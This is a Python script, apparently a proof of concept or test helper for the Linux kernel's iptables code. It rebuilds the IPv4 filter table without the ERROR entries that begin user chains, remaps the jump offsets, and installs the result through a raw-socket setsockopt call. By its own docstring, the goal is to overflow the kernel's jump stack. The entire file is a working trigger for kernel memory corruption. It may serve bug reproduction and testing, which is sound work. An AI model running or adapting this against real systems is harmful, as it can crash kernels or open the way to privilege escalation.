#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""overflow.py: makes jumps overflow in the filter table of this network namespace.

The kernel makes the jump stack as deep as the ruleset has user chains, and counts the entries
that begin them. iptables always writes these entries, but the kernel does not require them.
This replaces the ruleset by one without them, and prints the offset of each jump."""

import ctypes
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)),
                                "../selftests/iptverdict"))
import ruleset  # pylint: disable=wrong-import-position

SET_REPLACE = 64
IPV4 = ruleset.BLOBS["ipv4"]


class Entry:
    """An entry of the table, with its offset before the replacement."""

    def __init__(self, data, offset):
        self.offset = offset
        self.target, size = struct.unpack_from("HH", data, offset + IPV4.target_offset)
        self.data = bytearray(data[offset:offset + size])
        self.name = self.data[self.target + 2:][:29].split(b"\0")[0]

    def jump(self):
        """Returns the offset that the entry jumps to, or None if it does not jump."""
        if self.name != b"":
            return None
        verdict = struct.unpack_from("i", self.data, self.target + 32)[0]
        return verdict if verdict >= 0 else None

    def set_jump(self, offset):
        struct.pack_into("i", self.data, self.target + 32, offset)


def main():
    valid, starts, ends, data = ruleset.read("filter", IPV4)
    old, offset = [], 0
    while offset < len(data):
        old.append(Entry(data, offset))
        offset += len(old[-1].data)

    # The entries that begin chains have the target ERROR. So has the last one, which ends the
    # table.
    new_offset, size, kept = {}, 0, []
    for entry in old:
        new_offset[entry.offset] = size
        if entry.name != b"ERROR" or entry is old[-1]:
            kept.append(entry)
            size += len(entry.data)
    for entry in kept:
        if entry.jump() is not None:
            entry.set_jump(new_offset[entry.jump()])
            print(new_offset[entry.offset])

    hooks = [new_offset[at] if valid & 1 << hook else 0
             for offsets in (starts, ends) for hook, at in enumerate(offsets)]
    counters = ctypes.create_string_buffer(16 * len(old))
    replace = struct.pack("32sIII5I5IIP", b"filter", valid, len(kept), size, *hooks,
                          len(old), ctypes.addressof(counters))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.IPPROTO_IP, SET_REPLACE,
                       replace + b"".join(bytes(entry.data) for entry in kept))


main()
